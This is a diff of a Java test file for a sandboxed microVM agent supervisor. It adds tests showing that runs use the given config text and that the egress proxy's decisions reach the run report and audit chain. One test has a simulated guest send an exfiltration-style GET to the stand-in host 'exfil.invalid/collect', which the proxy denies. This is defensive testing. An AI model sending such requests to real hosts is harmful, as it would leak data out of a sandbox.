@@ -6,12 +6,18 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import dev.rtfs.microvm.controlplane.chain.ChainRecord;
 import dev.rtfs.microvm.controlplane.chain.ChainVerifier;
 import dev.rtfs.microvm.controlplane.chain.VerifyReport;
+import dev.rtfs.microvm.egressproxy.observe.DecisionRecord;
+import dev.rtfs.microvm.rtfslang.SourceFile;
+import dev.rtfs.microvm.vmm.qemu.QemuSynthesizer;
 import dev.rtfs.microvm.vmm.VmSynthesizer;
 import dev.rtfs.microvm.vmm.attest.Sha256ImageMeasurer;
 import dev.rtfs.microvm.vmm.qemu.AcceleratorProbe;
 import java.io.ByteArrayInputStream;
 import java.io.IOException;
 import java.io.InputStream;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -63,8 +69,14 @@ class SupervisorBootFailureTest {
                 + "\"capabilities.img\":\"" + sha.measure(image.resolve("images/capabilities.img")) + "\"}}");
     }
 
-    RunRequest request() {
-        return RunRequest.of(ROOT.resolve("docs/examples/agent.config.microvm.rtfs"), plan, image, dir.resolve("run"))
+    /** A file's text as the CLI hands it over: read once, named by its path. */
+    static SourceFile source(Path file) throws IOException {
+        return new SourceFile(file.toString(), Files.readString(file));
+    }
+
+    RunRequest request() throws IOException {
+        return RunRequest.of(source(ROOT.resolve("docs/examples/agent.config.microvm.rtfs")), source(plan), image,
+                        dir.resolve("run"))
                 .withGuest(image.resolve("images/initramfs.cpio"), Optional.of(image.resolve("images/capabilities.img")))
                 .withChainKey(dir.resolve("state/chain-key"));
     }
@@ -244,5 +256,79 @@ class SupervisorBootFailureTest {
                 .hasMessageContaining("not a socket");
         assertThat(Files.readString(notes)).isEqualTo("not a socket");
         assertThat(launcher.exits).isEmpty();
+    }
+
+    @Test
+    void aRunTakesTheConfigAndPlanTextItIsGivenAndOpensNeitherFile() throws Exception {
+        // Names of files that do not exist: the run must not read them again (the CLI read them, bounded, once).
+        SourceFile config = new SourceFile(dir.resolve("gone/agent.config.rtfs").toString(),
+                Files.readString(ROOT.resolve("docs/examples/agent.config.microvm.rtfs")));
+        SourceFile givenPlan = new SourceFile(dir.resolve("gone/plan.rtfs").toString(),
+                "(plan :program (do (step \"only\" (call :echo {:x 2}))))");
+        RunRequest req = RunRequest.of(config, givenPlan, image, dir.resolve("run"))
+                .withGuest(image.resolve("images/initramfs.cpio"), Optional.of(image.resolve("images/capabilities.img")))
+                .withChainKey(dir.resolve("state/chain-key"));
+        List<RunEvent> events = new CopyOnWriteArrayList<>();
+
+        RunReport report = new Supervisor(VmSynthesizer.standard(), new ScriptedLauncher(PANIC + "\n", 0))
+                .run(req, events::add);
+
+        assertThat(report.refusals()).isEmpty();
+        assertThat(report.attempts()).as("validated and admitted from the given text, then booted").isEqualTo(1);
+        assertThat(events).filteredOn(e -> e.phase() == RunEvent.Phase.VALIDATED).singleElement()
+                .satisfies(e -> assertThat(e.message()).contains("1 steps"));
+        ChainRecord started = chain(report).stream().filter(r -> r.kind().equals("run.started")).findFirst().orElseThrow();
+        assertThat(started.data().get("config").asString()).isEqualTo(config.name());
+        assertThat(started.data().get("plan").asString()).isEqualTo(givenPlan.name());
+
+        SourceFile broken = new SourceFile(config.name(), config.text().replace(":vcpus 1", ":vcpus 0"));
+        RunReport refused = new Supervisor(VmSynthesizer.standard(), new ScriptedLauncher("", 0))
+                .run(RunRequest.of(broken, givenPlan, image, dir.resolve("run-refused")));
+        assertThat(refused.refusals()).as("the given text is what is validated").isNotEmpty()
+                .allSatisfy(d -> assertThat(d.span().source()).isEqualTo(config.name()));
+    }
+
+    @Test
+    void theProxysDecisionsReachTheRunReportTypedAndTheChainRecordsEachOfThem() throws Exception {
+        // A guest that asks the proxy for a page before the first step (deny-all: refused by name, nothing is
+        // resolved or dialed), then panics. Its only connection is to the proxy's listener on 127.0.0.1.
+        VmLauncher asksThenPanics = (argv, log) -> {
+            int port = argv.stream().filter(a -> a.contains(QemuSynthesizer.GUESTFWD_RELAY)).findFirst()
+                    .map(a -> Integer.parseInt(a.substring(a.indexOf(QemuSynthesizer.GUESTFWD_RELAY)
+                            + QemuSynthesizer.GUESTFWD_RELAY.length()).replaceAll("[^0-9].*", "")))
+                    .orElseThrow();
+            try (Socket s = new Socket(InetAddress.getLoopbackAddress(), port)) {
+                OutputStream o = s.getOutputStream();
+                o.write("GET http://exfil.invalid/collect HTTP/1.1\r\nHost: exfil.invalid\r\nConnection: close\r\n\r\n"
+                        .getBytes(StandardCharsets.US_ASCII));
+                o.flush();
+                s.getInputStream().readAllBytes();
+            }
+            return new ScriptedLauncher(PANIC + "\n", 0).start(argv, log);
+        };
+
+        RunReport report = new Supervisor(VmSynthesizer.standard(), asksThenPanics).run(request());
+
+        assertThat(report.egress()).singleElement().satisfies(d -> {
+            assertThat(d).isInstanceOf(DecisionRecord.class);
+            assertThat(d.agentId()).isEqualTo(report.agentId());
+            assertThat(d.step()).isEmpty();
+            assertThat(d.method()).isEqualTo("GET");
+            assertThat(d.host()).isEqualTo("exfil.invalid");
+            assertThat(d.outcome()).isEqualTo("DENY");
+            assertThat(d.reason()).isEqualTo("between-steps");
+            assertThat(d.status()).isEqualTo(403);
+        });
+        assertThat(chain(report)).filteredOn(r -> r.kind().equals("egress.decision")).singleElement()
+                .satisfies(r -> {
+                    DecisionRecord d = report.egress().getFirst();
+                    assertThat(r.data().get("host").asString()).isEqualTo(d.host());
+                    assertThat(r.data().get("decision").asString()).isEqualTo(d.outcome());
+                    assertThat(r.data().get("reason").asString()).isEqualTo(d.reason());
+                    assertThat(r.data().get("port").asInt()).isEqualTo(d.port());
+                });
+        assertThat(RunTable.renderEgress(report))
+                .contains("step -: GET exfil.invalid:80 -> DENY (between-steps, status 403)");
+        assertThat(RunReportJson.toJson(report).get("egress").get(0).get("decision").asString()).isEqualTo("DENY");
     }
 }
